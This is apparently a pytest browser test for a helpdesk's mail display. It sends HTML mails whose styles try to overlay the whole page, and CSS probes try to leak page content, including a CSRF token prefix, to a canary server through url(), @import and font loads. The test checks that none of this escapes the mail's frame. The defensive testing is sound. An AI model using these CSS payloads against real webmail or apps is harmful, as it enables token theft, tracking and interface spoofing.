"""S30: styles in a mail paint inside its frame and nowhere else, look at nothing of ours, and fetch nothing (P1)."""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from typing import Any

import pytest

from tests.flows.conftest import ADMIN, PASSWORD, RunningDesk
from tests.outside import Sink, wait_for
from tests.safety.canary import OutsideServer, outside_server
from tests.safety.mail_desk import all_tickets

pytestmark = pytest.mark.browser
# A colour that is nowhere in our design.
PAINT = "#ff00fe"
EVERYWHERE = f"position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:2147483647;background-color:{PAINT}"
PAINTERS = [
    f'<div style="{EVERYWHERE}">over all</div>',
    f'<div style="{EVERYWHERE.replace("fixed", "absolute")};margin:-9999px">over all</div>',
    f'<div style="color:{PAINT};box-shadow:0 0 0 9999px {PAINT};outline:9999px solid {PAINT}">shadow</div>',
    f'<div style="transform:scale(99);background:{PAINT};filter:drop-shadow(0 0 99px {PAINT})">grown</div>',
    f'<div style="animation:fly 1s infinite;background:{PAINT};transition:all 9s">moving</div>',
    f"<style>@keyframes fly{{from{{left:-999px}}to{{left:999px}}}}body,html,:root,iframe{{background:{PAINT}!important;"
    f"position:fixed;inset:0;width:200vw;height:200vh;z-index:99999}}*{{outline:99px solid {PAINT}}}</style>",
    f'<p style="position:sticky;top:-99px;margin:0 0 0 -500px;text-indent:-500px;background:{PAINT}">shifted</p>',
    f'<table style="position:fixed;inset:0"><tr><td bgcolor="{PAINT}" width=9999 height=9999>cell</td></tr></table>',
    f'<font color="{PAINT}" style="font-size:9999px;line-height:0;position:relative;top:-300px">█</font>',
    f'</div></body></html><div id="content" class="panel dialog toast" popover open style="{EVERYWHERE}">out</div>',
    f'<dialog open style="{EVERYWHERE}">dialog</dialog><details open class="menu"><summary>x</summary>y</details>',
]


def _probes(canary: str) -> str:
    """Ways to tell a server what stands on the page."""
    rules = "".join(
        f'{where}{{background:url("{canary}/{number}.png")}}'
        for number, where in enumerate((
            'html:has(input[name=csrfmiddlewaretoken][value^="a"])', "body:has(iframe)", 'input[value^="b"]', ":root",
            "a:visited", "@media print{p}", "@supports (display:grid){p}", "p:first-letter", "p:hover", "::selection",
        ))
    )  # fmt: skip
    return (
        f'<style>@import "{canary}/i.css";@import url({canary}/j.css) print;'
        f"@font-face{{font-family:f;src:url({canary}/f)}}"
        f"{rules}p{{font-family:f;cursor:url({canary}/c),auto}}p::before{{content:url({canary}/b)}}</style>"
        f'<link rel=stylesheet href="{canary}/l.css"><p style="background:url({canary}/p);font-family:f;'
        f'list-style-image:url({canary}/s);border-image:url({canary}/r) 1;mask:url({canary}/m)">probe</p>'
        f'<p style="background:{PAINT} url({canary}/q)">x</p><svg><style>@import "{canary}/v.css";</style></svg>'
        f'<p style="background-color:\\75 rl({canary}/e)">x</p><p style="--x:url({canary}/x);background:var(--x)">x</p>'
    )


@pytest.fixture
def canary() -> Iterator[OutsideServer]:
    with outside_server() as server:
        yield server


def _mail(number: int, html: str) -> bytes:
    return (
        f"From: Painter <painter{number}@evil.example>\r\nTo: help@desk.example\r\nSubject: painted {number}\r\n"
        f"Message-ID: <s30-{number}@evil.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
        f"Content-Transfer-Encoding: 8bit\r\n\r\n<html><body><p>harmless {number}</p>{html}</body></html>\r\n"
    ).encode()


def test_s30_styles_of_a_mail_stay_in_its_frame(
    mail_desk: RunningDesk, outside: Sink, chromium: Any, canary: OutsideServer, full_size: bool
) -> None:
    # Reduced, the painters share a mail, whose tags are all balanced again by the cleaner.
    bodies = [*PAINTERS] if full_size else ["".join(PAINTERS[:6]), "".join(PAINTERS[6:])]
    bodies.append(_probes(canary.url))
    seen = len(outside.mails)
    for number, html in enumerate(bodies):
        mail_desk.send(_mail(number, html), sender=f"painter{number}@evil.example")
    wait_for(lambda: len(outside.mails) >= seen + len(bodies), seconds=60, what="all acknowledgements")
    numbers = [ticket["number"] for ticket in all_tickets(mail_desk) if ticket["subject"].startswith("painted")]
    assert len(numbers) == len(bodies)

    agent = chromium.new_context(viewport={"width": 1000, "height": 700}).new_page()
    agent.goto(f"{mail_desk.instance.url}/sign-in/")
    agent.fill("input[type=email], input[name=email], input[name=username]", ADMIN)
    agent.fill("input[type=password]", PASSWORD)
    agent.click("main form button[type=submit], main form button:not([type])")
    agent.wait_for_url("**/desk/**")
    painted = [_look(agent, f"{mail_desk.instance.url}/desk/tickets/{number}/") for number in numbers]
    customer = chromium.new_context(viewport={"width": 1000, "height": 700}).new_page()
    for received in outside.mails[seen:]:
        link = re.search(r"http://127\.0\.0\.1:\d+/t/[\w-]+/", received.text)
        assert link
        painted.append(_look(customer, link.group()))
    assert any(inside for inside, _ in painted), "the colour is not seen even where it may be"
    assert [outside_it for _, outside_it in painted] == [0] * len(painted)
    assert canary.asked == []


COUNT = """async ([shot, boxes, paint]) => {
  const image = new Image();
  image.src = 'data:image/png;base64,' + shot;
  await image.decode();
  const canvas = new OffscreenCanvas(image.width, image.height).getContext('2d');
  canvas.drawImage(image, 0, 0);
  const bytes = canvas.getImageData(0, 0, image.width, image.height).data;
  let inside = 0, outside = 0;
  for (let at = 0; at < bytes.length; at += 4) {
    if (bytes[at] !== 0xff || bytes[at + 1] !== 0 || bytes[at + 2] !== 0xfe) continue;
    const x = (at / 4) % image.width, y = Math.floor(at / 4 / image.width);
    if (boxes.some(([l, t, r, b]) => x >= l && x < r && y >= t && y < b)) inside++; else outside++;
  }
  return [inside, outside];
}"""


def _look(page: Any, url: str) -> tuple[int, int]:
    """How many dots of the colour stand inside the frames of a ticket, and how many elsewhere on its page."""
    page.goto(url)
    for frame in page.query_selector_all("iframe"):
        frame.scroll_into_view_if_needed()
    page.wait_for_load_state("networkidle")
    assert "harmless" in "".join(frame.content() for frame in page.frames)
    boxes = [frame.bounding_box() for frame in page.query_selector_all("iframe")]
    assert boxes
    places = [
        [int(box["x"]), int(box["y"]), int(box["x"] + box["width"]) + 1, int(box["y"] + box["height"]) + 1]
        for box in boxes
    ]
    shot = base64.b64encode(page.screenshot()).decode()
    blank = page.context.browser.new_page()
    try:
        inside, elsewhere = blank.evaluate(COUNT, [shot, places, PAINT])
    finally:
        blank.close()
    return inside, elsewhere
